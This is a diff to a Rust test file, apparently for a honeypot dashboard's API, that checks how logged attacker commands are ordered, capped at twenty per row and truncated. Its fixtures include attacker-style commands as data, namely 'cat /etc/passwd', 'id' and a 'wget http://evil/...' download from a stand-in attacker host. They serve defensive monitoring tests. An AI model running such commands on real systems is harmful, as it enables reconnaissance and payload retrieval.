@@ -189,9 +189,9 @@ async fn an_attacker_detail_carries_commands_activity_leaks_and_observations() {
         assert_eq!((&detail["uuid"], &detail["ip"]), (&json!(a.uuid.to_string()), &json!("10.0.0.1")));
         let commands: Vec<&str> =
             detail["commands"].as_array().unwrap().iter().map(|c| c["command"].as_str().unwrap()).collect();
-        assert_eq!(commands, ["id", "cat /etc/passwd", "uname -a"], "newest first");
+        assert_eq!(commands, ["uname -a", "cat /etc/passwd", "id"], "oldest first, as DECNET's list");
         assert_eq!(
-            detail["commands"][0],
+            detail["commands"][2],
             json!({"service": "http", "decky": "ssh-01", "command": "id", "timestamp": format_utc(at(3))})
         );
         assert_eq!(detail["service_activity"], json!({"interacted": ["http", "ssh"], "scanned": []}));
@@ -219,6 +219,58 @@ async fn an_attacker_detail_carries_commands_activity_leaks_and_observations() {
         assert_eq!((missing.status, missing.body), (StatusCode::NOT_FOUND, json!({"detail": "Attacker not found"})));
         assert_eq!(api.get("/attackers/not-a-uuid", Some(&token), &[]).await.status, StatusCode::UNPROCESSABLE_ENTITY);
         assert_eq!(api.get(&format!("/attackers/{}", a.uuid), None, &[]).await.status, StatusCode::UNAUTHORIZED);
+        api.stop().await;
+    }
+}
+
+/// DECNET's Attackers page reads `commands.length` and the last command of every row: rows carry
+/// the newest 20 (oldest first, texts cut) beside the exact count, however many the attacker ran.
+#[tokio::test]
+async fn list_rows_carry_the_newest_commands_bounded_for_an_attacker_of_100000() {
+    const RAN: i64 = 100_000;
+    for backend in TestDb::all() {
+        let api = TestApi::start(backend.api_config(&[])).await;
+        let token = user_token(&api.state, "watcher", Role::Viewer).await;
+        let busy = profile("10.7.7.7", RAN, &["ssh-01"], &["ssh"], 50);
+        let long = "x".repeat(5_000);
+        let commands: Vec<_> = (0..RAN)
+            .map(|n| {
+                let text = if n == RAN - 1 { format!("wget http://evil/{long}") } else { format!("echo {n}") };
+                (busy.uuid, command(n + 1, n / 2_000, "ssh", &text))
+            })
+            .collect();
+        let mut others: Vec<AttackerProfile> =
+            (0..49).map(|n| profile(&format!("10.8.0.{n}"), 3, &["web-01"], &["http"], 10)).collect();
+        let one_command = vec![(others[0].uuid, command(RAN + 1, 5, "http", "id"))];
+        others.push(busy.clone());
+        store(&api.state.db, others, commands.into_iter().chain(one_command).collect()).await;
+
+        let reply = api.get("/attackers", Some(&token), &[]).await;
+        assert_eq!(reply.status, StatusCode::OK);
+        let page = reply.body;
+        assert_eq!(page["data"].as_array().unwrap().len(), 50);
+        let row = &page["data"][0];
+        assert_eq!((&row["ip"], &row["command_count"]), (&json!("10.7.7.7"), &json!(RAN)), "{}", backend.name);
+        let texts: Vec<&str> =
+            row["commands"].as_array().unwrap().iter().map(|c| c["command"].as_str().unwrap()).collect();
+        assert_eq!(texts.len(), 20);
+        assert_eq!(texts[0], format!("echo {}", RAN - 20));
+        assert_eq!(texts[18], format!("echo {}", RAN - 2));
+        let newest = texts[19];
+        assert!(newest.starts_with("wget http://evil/xxx") && newest.chars().count() == 256, "cut: {}", newest.len());
+        assert_eq!(row["commands"][19]["timestamp"], json!(format_utc(at((RAN - 1) / 2_000))));
+        let few = page["data"].as_array().unwrap().iter().find(|r| r["ip"] == "10.8.0.0").unwrap();
+        assert_eq!((&few["command_count"], &few["commands"][0]["command"]), (&json!(1), &json!("id")));
+        let none = page["data"].as_array().unwrap().iter().find(|r| r["ip"] == "10.8.0.1").unwrap();
+        assert_eq!(none["commands"], json!([]));
+        // 50 rows of at most 20 commands of at most 256 characters: the page stays small.
+        let size = serde_json::to_vec(&page).unwrap().len();
+        assert!(size < 120_000, "a page of 50 rows is {size} bytes");
+
+        let detail = api.ok(&format!("/attackers/{}", busy.uuid), &token, &[]).await;
+        let detail_commands = detail["commands"].as_array().unwrap();
+        assert_eq!((detail_commands.len(), &detail["command_count"]), (50, &json!(RAN)));
+        assert_eq!(detail_commands[49]["command"], json!(format!("wget http://evil/{long}")), "the detail's are whole");
         api.stop().await;
     }
 }
